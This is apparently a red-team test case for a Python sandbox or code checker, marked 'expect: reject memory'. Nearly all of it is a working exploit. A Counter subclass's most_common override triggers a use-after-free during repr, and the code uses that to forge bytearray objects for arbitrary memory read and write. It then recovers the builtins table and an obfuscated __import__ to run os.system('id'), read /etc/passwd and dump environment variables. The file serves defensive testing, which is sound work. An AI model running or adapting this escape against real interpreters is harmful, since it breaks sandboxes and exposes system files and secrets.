# expect: reject memory
# line: 22
# why: round 92 (red team): a Counter subclass's most_common, which Counter's __repr__ calls by name, emptied the list a C repr was formatting; with no text dunder of its own the program was never judged in text mode
# Counter's Python __repr__ calls self.most_common() by name; no text dunder is
# defined in the program, so the override is never judged pure.
import collections

LA = []
LB = []
G = []
KEEP = []
INFO = []


def q(v):
    return v.to_bytes(8, "little")


class Tally(collections.Counter):
    def most_common(self, n=None):
        if len(KEEP) == 0:
            LA.clear()
            buf = bytearray(255)
            buf[0:56] = q(1 << 40) + q(id(bytearray)) + q(8) + q(9) + q(INFO[0]) + q(INFO[0]) + q(0)
            KEEP.append(buf)
        elif len(KEEP) == 1:
            LB.clear()
            buf = bytearray(255)
            buf[0:32] = q(1 << 40) + q(id(tuple)) + q(1) + q(INFO[1] + 64)
            buf[64:88] = q(1 << 40) + q(INFO[2]) + q(1)
            KEEP.append(buf)
        else:
            G.append(self)
        return []


def unrepr(s):
    i = s.index("bytearray(") + 12
    out = []
    while len(out) < 8:
        c = s[i]
        if c == "\\":
            d = s[i + 1]
            if d == "x":
                out.append(int(s[i + 2:i + 4], 16))
                i += 4
                continue
            out.append({"t": 9, "n": 10, "r": 13}.get(d, ord(d)))
            i += 2
            continue
        out.append(ord(c))
        i += 1
    return int.from_bytes(bytes(out), "little")


START = Tally(a=1)
n = 200
INFO.append(id(START) + 8)
stop = "q" * n
LA.append(slice(START, stop))
del stop
leak = repr(LA)
INFO.append(0)
INFO.append(unrepr(leak))
stop = "q" * n
INFO[1] = id(stop)
LB.append(slice(START, stop))
del stop
text = repr(LB)
KEEP[1][72:120] = q(id(bytearray)) + q(1 << 62) + q((1 << 62) + 1) + q(0) + q(0) + q(0)
mem = G[0]


def rd(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


def wr(addr, v):
    mem[addr:addr + 8] = q(v)


mod = rd(id(print) + 24)
bdict = rd(mod + 16)
holder = [None]
items = rd(id(holder) + 24)
wr(bdict, rd(bdict) + 1)
wr(items, bdict)
table = holder[0]
imp = table["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(table["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
